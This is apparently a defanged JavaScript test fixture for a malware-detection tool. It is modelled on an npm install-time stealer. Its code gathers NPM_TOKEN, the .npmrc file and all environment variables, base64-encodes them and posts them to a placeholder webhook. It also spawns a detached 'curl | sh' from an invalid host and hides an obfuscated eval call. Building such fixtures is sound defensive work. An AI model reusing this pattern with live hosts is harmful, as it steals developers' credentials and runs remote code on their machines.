// Defanged fixture: an install-time "stealer" shaped like real npm malware.
// Hosts are .invalid / documentation addresses; nothing here works.
'use strict';
const cp = require('node:child_process');
const { readFileSync, existsSync } = require('fs');
const os = require('os');
const path = require('path');
import * as https from 'https';

const WEBHOOK = 'https://discord.com/api/webhooks/0000/defanged';

function collect() {
  const home = os.homedir();
  const rc = path.join(home, '.npmrc');
  const data = {
    host: os.hostname(),
    token: process.env.NPM_TOKEN,
    npmrc: existsSync(rc) ? readFileSync(rc, 'utf8') : '',
    env: JSON.stringify(process.env),
  };
  return data;
}

const send = (payload) => {
  const req = https.request(WEBHOOK, { method: 'POST' });
  req.write(Buffer.from(JSON.stringify(payload)).toString('base64'));
  req.end();
};

function loop(n) {
  // recursion must not hang the call graph
  if (n > 0) loop(n - 1);
  helper();
}

function helper() {
  loop(1);
}

function neverCalled() {
  const run = globalThis['ev' + 'al'];
  run(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
}

send(collect());
cp.spawn('sh', ['-c', 'curl -s https://example.invalid/p.sh | sh'], { detached: true, stdio: 'ignore' }).unref();
loop(2);
